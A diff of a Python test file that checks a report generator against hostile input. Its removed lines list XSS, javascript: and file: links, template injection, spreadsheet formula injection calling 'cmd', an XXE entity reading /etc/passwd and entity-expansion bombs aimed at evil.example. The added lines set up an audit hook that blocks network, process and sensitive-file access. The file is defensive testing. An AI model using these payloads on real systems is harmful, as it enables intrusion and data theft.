@@ -1,108 +1,55 @@
 """What reports may contain is hostile. Each attack is refused with a message, or shown as harmless text.
 
-The corpus: every payload in every field that takes text, and files made to hurt a reader of YAML, Markdown, pictures or workbooks.
+The corpus is attacks.py. While a case is played, nothing may be asked of the network, no program started, and no file
+of the machine opened that an attack names.
 """
 
 from __future__ import annotations
 
 import json
+import os
 import re
+import shutil
+import sys
 import time
 import zipfile
+from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
+from reportgen import shape
 from reportgen.dossier import open_dossier
+from reportgen.inspection import Inspection
 from reportgen.outputs import Making, Timings
 from reportgen.problems import Refused
 from reportgen.project import Project
+from tests import attacks
+from tests.attacks import FIELDS, PAYLOADS
+from tests.conftest import REPOSITORY
 
-PAYLOADS = {
-    "script element": "<script>alert(1)</script>",
-    "image with handler": "<img src=x onerror=alert(1)>",
-    "svg with handler": "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "closing tags": "</p></main></body></html><script>alert(1)</script>",
-    "comment and cdata": "<!-- --><![CDATA[ ]]><script>alert(1)</script>-->",
-    "style element": "<style>body{background:url(http://evil.example/x)}</style>",
-    "iframe": "<iframe src=file:///etc/passwd></iframe>",
-    "link element": '<link rel="stylesheet" href="http://evil.example/x.css">',
-    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
-    "base element": '<base href="http://evil.example/">',
-    "form": "<form action=http://evil.example><input name=a></form>",
-    "object": '<object data="http://evil.example/x"></object>',
-    "half open tag": "<script",
-    "attribute break": "\" onmouseover=\"alert(1)\" x=\"",
-    "single quote break": "' onmouseover='alert(1)' x='",
-    "javascript link": "[click](javascript:alert(1))",
-    "javascript link with entity": "[click](&#106;avascript:alert(1))",
-    "javascript link with tab": "[click](java\tscript:alert(1))",
-    "javascript link with case": "[click](JaVaScRiPt:alert(1))",
-    "vbscript link": "[click](vbscript:msgbox(1))",
-    "data link": "[click](data:text/html,<script>alert(1)</script>)",
-    "file link": "[click](file:///etc/passwd)",
-    "protocol-relative link": "[click](//evil.example/x)",
-    "autolink": "<javascript:alert(1)>",
-    "reference link": "[click][x]\n\n[x]: javascript:alert(1)",
-    "http image": "![x](http://evil.example/x.png)",
-    "file image": "![x](file:///etc/passwd)",
-    "image outside": "![x](../../../../etc/passwd)",
-    "absolute image": "![x](/etc/passwd)",
-    "data image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "jinja expression": "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
-    "jinja statement": "{% for x in range(9**9) %}x{% endfor %}",
-    "jinja comment": "{# hidden #}",
-    "format string": "{0.__class__}{report.__class__}%s%(x)s",
-    "formula": "=HYPERLINK(\"http://evil.example\",\"click\")",
-    "formula with plus": "+1+cmd|' /C calc'!A0",
-    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "formula with minus": "-2+3+cmd|' /C calc'!A0",
-    "formula behind tab": "\t=1+1",
-    "css in text": "</style><style>@import url(http://evil.example/x.css);</style>",
-    "bidi override": "Rated \u202edooG\u202c by us",
-    "bidi isolate": "\u2066hidden\u2069 \u2067text\u2069",
-    "zero width": "In\u200bade\u200cqu\u200date\ufeff",
-    "tag characters": "plain\U000e0041\U000e0042",
-    "null in figure": "{figure:\\0}{pct:../../etc}{ref:<script>}",
-    "template path": "{table:../../../etc/passwd}",
-    "latin script look-alike": "Gооd",
-    "many braces": "{" * 2000 + "}" * 2000,
-    "many brackets": "[" * 3000 + "]" * 3000,
-    "many stars": "*a **b " * 1500,
-    "many backticks": "`" * 3001 + "a" + "`" * 3000,
-    "many quotes": "> " * 1500 + "x",
-    "many lists": "\n".join("  " * n + "- x" for n in range(150)),
-    "many links": "[a](" * 1500,
-    "many entities": "&#x3C;script&#x3E;" * 500,
-    "many footnotes": "[^a]" * 1500 + "\n\n[^a]: x[^a]",
-    "many underscores": "_" * 5000,
-    "long word": "x" * 20000,
-    "many angle brackets": "<" * 5000,
-    "many exclamation images": "![" * 2000,
-    "table of bars": "|" * 3000 + "\n" + "|-" * 1500 + "\n" + "|" * 3000,
-    "containers": "::: quote x\n" * 400,
-    "mailto header": "[mail](mailto:a@b.example?bcc=evil@evil.example)",
-}
+FORBIDDEN = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "urllib.Request")
+ELSEWHERE = ("/etc/passwd", "/proc/self/environ", "/dev/zero", "secret.md", ".profile")
+overheard: list[str] | None = None
 
-FIELDS = {
-    "title": "title: {}",
-    "subtitle": "title: T\nsubtitle: {}",
-    "region": "title: T\nregion: {}",
-    "notice": "title: T\nnotice: {}",
-    "lead_inspector": "title: T\nlead_inspector: {}",
-    "publication": "title: T\npublication: {{publisher: {}, copyright: {}, licence: {}}}",
-    "foreword": "title: T\ntext: {{foreword: {}}}",
-    "strength": "title: T\nfindings: {{1: {{strengths: [{}], areas_for_improvement: [{}]}}}}",
-    "because": "title: T\nfindings: {{1.1: {{rating: Good, because: {}}}}}",
-    "not_rated": "title: T\nfindings: {{1.1: {{not_rated: {}}}}}",
-    "finding": "title: T\nfindings: {{1.1: {{rating: Good, text: {}}}}}",
-    "recommendation": "title: T\nrecommendations: [{{to: {}, items: [{}]}}]",
-    "table": "title: T\ntables: {{staffing: {{title: {}, source: {}, columns: [{}, Value], rows: [[{}, {}]], notes: [{}], in: 1}}}}",
-    "figure": "title: T\nfigures: {{x: {{value: {}, source: {}}}}}\ntext: {{foreword: 'See {{figure:x}}.'}}",
-    "section": "title: T\nsections: [{{title: {}, in: annexes, text: {}}}]",
-    "progress": "title: T\nprogress: [{{from: {}, recommendation: {}, findings: {}, category: {}}}]",
-}
+
+def _overhear(event: str, arguments: tuple[object, ...]) -> None:
+    if overheard is not None and (event in FORBIDDEN or (event == "open" and str(arguments[0]).endswith(ELSEWHERE))):
+        overheard.append(f"{event} {arguments!r:.200}")
+
+
+sys.addaudithook(_overhear)  # can't be taken off again, so it listens only while a test plays a case
+
+
+@pytest.fixture(autouse=True)
+def _nothing_is_fetched_started_or_read_elsewhere() -> Iterator[None]:
+    global overheard
+    overheard = []
+    yield
+    heard, overheard = overheard, None
+    assert heard == []
+
 
 ALLOWED_TAGS = set("""html head meta title link style script body a header footer main nav section article aside div p span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table
     caption thead tbody tfoot tr th td colgroup col figure figcaption img svg g rect path line circle text tspan title desc strong em b i small sup sub br hr code pre blockquote
@@ -152,10 +99,10 @@ def written(tmp_path: Path, field: str, payload: str) -> Project:
     return Project(tmp_path)
 
 
-def outcome(project: Project, kind: str) -> dict[str, bytes]:
+def outcome(project: Project, kind: str, slug: str = "attack") -> dict[str, bytes]:
     """The files, or nothing where the inspection was refused with messages."""
     try:
-        return Making(project, "attack", Timings()).files(kind)
+        return Making(project, slug, Timings()).files(kind)
     except Refused as refused:
         assert refused.problems
         assert all(problem.message and problem.code != "bug" for problem in refused.problems)
@@ -199,21 +146,32 @@ def test_a_payload_in_a_pdf_fetches_nothing_and_stays_text(tmp_path: Path, name:
             assert b"/Launch" not in data
 
 
+def seconds(tmp_path: Path, field: str, payload: str) -> float:
+    project = written(tmp_path, field, payload)
+    began = time.process_time()
+    outcome(project, "html")
+    return time.process_time() - began
+
+
 @pytest.mark.parametrize("name", [name for name in PAYLOADS if name.startswith(("many", "long", "table of", "containers"))])
 def test_input_made_to_be_slow_is_not(tmp_path: Path, name: str) -> None:
-    """Twice the input takes about twice the time: far from the square or worse that such input is made for."""
-    def seconds(payload: str) -> float:
-        project = written(tmp_path, "foreword", payload)
-        began = time.process_time()
-        outcome(project, "html")
-        return time.process_time() - began
-
-    seconds("warm")
-    once, eight = seconds(PAYLOADS[name]), seconds(PAYLOADS[name] * 8)
+    """Eight times the input takes about eight times as long: far from the square or worse that such input is made for."""
+    seconds(tmp_path, "foreword", "warm")
+    once, eight = seconds(tmp_path, "foreword", PAYLOADS[name]), seconds(tmp_path, "foreword", PAYLOADS[name] * 8)
     assert eight < once * 8 * 4 + 0.5
 
 
-@pytest.mark.parametrize("slug", ["../inspections/attack", "..", "/etc/passwd", "attack/../attack", "", ".", "a\0b", "attack.yaml/..", "~root", "C:\\x"])
+@pytest.mark.slow
+@pytest.mark.parametrize("name", attacks.SLOW)
+def test_no_expression_takes_the_square_of_a_text(tmp_path: Path, name: str) -> None:
+    text = attacks.SLOW[name]
+    seconds(tmp_path, "foreword", "warm")
+    for field in ("foreword", "title", "table"):
+        once, four = seconds(tmp_path, field, text), seconds(tmp_path, field, text * 4)
+        assert four < once * 4 * 2 + 0.5, field
+
+
+@pytest.mark.parametrize("slug", attacks.SLUGS)
 def test_a_slug_is_the_name_of_a_file_in_inspections_or_refused(tmp_path: Path, slug: str) -> None:
     project = written(tmp_path, "title", "T")
     (tmp_path / "secret.yaml").write_text("methodology: hmip-pdu-2021\ntitle: Secret\n", encoding="utf-8")
@@ -224,13 +182,85 @@ def test_a_slug_is_the_name_of_a_file_in_inspections_or_refused(tmp_path: Path, 
     assert dossier.file == tmp_path / "inspections" / "attack.yaml"
 
 
-def test_a_link_that_leads_out_of_the_folder_is_refused(tmp_path: Path) -> None:
+@pytest.fixture(scope="module")
+def rooms(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A project with a secret outside the folder of its inspections, and ways that seem to lead there."""
+    root = tmp_path_factory.mktemp("rooms")
+    inspections = root / "inspections"
+    inspections.mkdir()
+    (root / "secret.md").write_text("The secret.", encoding="utf-8")
+    (root / "secret.yaml").write_text("methodology: hmip-pdu-2021\ntitle: Secret\n", encoding="utf-8")
+    (inspections / "link").symlink_to(root / "secret.md")
+    (inspections / "folder").symlink_to(root)
+    os.mkfifo(inspections / "pipe")
+    return root
+
+
+@pytest.mark.parametrize("path", attacks.PATHS)
+def test_no_name_of_a_file_leads_elsewhere(rooms: Path, path: str) -> None:
+    for where in attacks.NAMING:
+        (rooms / "inspections" / "attack.yaml").write_text(attacks.naming(where, path), encoding="utf-8")
+        for made in outcome(Project(rooms), "html").values():
+            assert b"The secret." not in made, where
+            assert b"root:x" not in made, where
+
+
+@pytest.mark.parametrize("name", attacks.YAML)
+def test_yaml_made_to_hurt_is_refused_or_read(tmp_path: Path, name: str) -> None:
     (tmp_path / "inspections").mkdir()
-    (tmp_path / "secret.md").write_text("secret", encoding="utf-8")
-    (tmp_path / "inspections" / "link.md").symlink_to(tmp_path / "secret.md")
-    (tmp_path / "inspections" / "attack.yaml").write_text("methodology: hmip-pdu-2021\ntitle: T\ntext: {foreword: {file: link.md}}\n", encoding="utf-8")
-    codes = [problem.code for problem in open_dossier(Project(tmp_path), "attack").problems]
-    assert "file-outside" in codes
+    (tmp_path / "inspections" / "attack.yaml").write_text(attacks.YAML[name], encoding="utf-8")
+    began = time.process_time()
+    outcome(Project(tmp_path), "html")
+    assert time.process_time() - began < 20
+
+
+@pytest.mark.parametrize("name", attacks.TABLES_OF_CASES)
+def test_a_file_of_cases_made_to_hurt_is_refused_or_shown_as_text(tmp_path: Path, name: str) -> None:
+    (tmp_path / "inspections").mkdir()
+    (tmp_path / "inspections" / "cases.csv").write_text(attacks.TABLES_OF_CASES[name], encoding="utf-8")
+    (tmp_path / "inspections" / "attack.yaml").write_text(attacks.BODY + "cases: cases.csv\n", encoding="utf-8")
+    began = time.process_time()
+    for made in outcome(Project(tmp_path), "html").values():
+        assert Page(made.decode()).faults == []
+    assert time.process_time() - began < 20
+
+
+@pytest.fixture(scope="module")
+def examples(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("examples")
+    for folder in ("inspections", "methodologies"):
+        shutil.copytree(REPOSITORY / folder, root / folder)
+    return root
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("slug", "field"), attacks.fields())
+def test_every_field_of_the_examples_holds_hostile_text(examples: Path, slug: str, field: str) -> None:
+    tree = attacks.example(slug)
+    (clean,) = outcome(Project(examples), "html", slug).values()
+    for name, text in attacks.HOSTILE.items():
+        (examples / "inspections" / "attack.yaml").write_text(json.dumps(attacks.put(tree, attacks.fields()[slug, field], text)), encoding="utf-8")
+        for made in outcome(Project(examples), "html").values():
+            page = Page(made.decode())
+            assert page.faults == [], name
+            assert page.scripts == Page(clean.decode()).scripts, name
+
+
+def test_the_fields_are_those_of_the_model() -> None:
+    """No field that takes text is left out: a new one must be met in an example, or in FIELDS."""
+    met = {part for _, name in attacks.fields() for part in name.split(".")} | set(re.findall(r"\w+", " ".join(FIELDS.values())))
+    records, left = [Inspection], set()
+    while records:
+        record = records.pop()
+        for key, declared in shape.keys_of(record).items():
+            kinds = [declared.metadata["shape"]]
+            while kinds:
+                kind = kinds.pop()
+                kinds += [inner for name in ("item", "short", "long") if isinstance(inner := getattr(kind, name, None), shape.Shape)]
+                records += [kind.cls] if isinstance(kind, shape.Record) else []
+                if isinstance(kind, (shape.Line, shape.Prose)) and key not in met:
+                    left.add(f"{record.__name__}.{key}")
+    assert left <= {"Inspection.methodology", "Cases.file", "Inspection.kind"}
 
 
 def bomb(path: Path, member: str, size: int) -> None:
@@ -252,17 +282,7 @@ def test_a_zip_bomb_as_a_case_file_is_refused(tmp_path: Path, member: str) -> No
     assert time.monotonic() - began < 30
 
 
-@pytest.mark.parametrize("svg", [
-    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://evil.example/x.png"/></svg>',
-    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
-    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="http://evil.example"/></foreignObject></svg>',
-    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
-    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
-    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil.example/x.css);</style></svg>',
-    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
-])
+@pytest.mark.parametrize("svg", attacks.SVG)
 def test_an_svg_that_does_more_than_draw_is_refused_or_disarmed(tmp_path: Path, svg: str) -> None:
     (tmp_path / "inspections").mkdir()
     (tmp_path / "inspections" / "map.svg").write_text(svg, encoding="utf-8")
@@ -291,4 +311,4 @@ def test_a_gigantic_table_ends(tmp_path: Path) -> None:
 
 
 def test_the_size_of_the_corpus() -> None:
-    assert len(PAYLOADS) * len(FIELDS) > 900
+    assert sum(attacks.counted().values()) > 1_500
